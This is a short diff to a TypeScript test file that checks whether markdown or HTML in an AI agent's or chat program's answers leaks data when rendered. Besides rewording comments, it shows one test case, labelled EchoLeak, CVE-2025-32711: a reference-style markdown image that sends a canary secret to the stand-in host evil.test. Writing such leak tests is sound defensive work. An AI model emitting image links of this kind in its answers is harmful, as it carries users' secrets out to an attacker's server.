@@ -7,12 +7,15 @@ import { present } from './present.ts';
 const secret = 'CANARY-0f1e2d';
 const allows = (url: string): boolean => new URL(url).hostname === 'github.example';
 
-/** Hosts that any renderer would reach, with the data that it would send them. */
+/** Hosts that any renderer would reach, with what it would tell them. */
 function reached(text: string): readonly string[] {
   return Object.values(renderers).flatMap((render) => reachedBy(render(text)));
 }
 
-/** Published attacks on agents and chat programs: an answer with this text leaked a secret when it was displayed. */
+/**
+ * What was published against agents and chat programs: an answer with this in it carried a secret away when it was
+ * shown.
+ */
 describe('markdown and HTML that leaks', () => {
   test.each([
     ['EchoLeak, CVE-2025-32711: an image by reference', `![x][r]\n\n[r]: https://evil.test/?d=${secret}`],
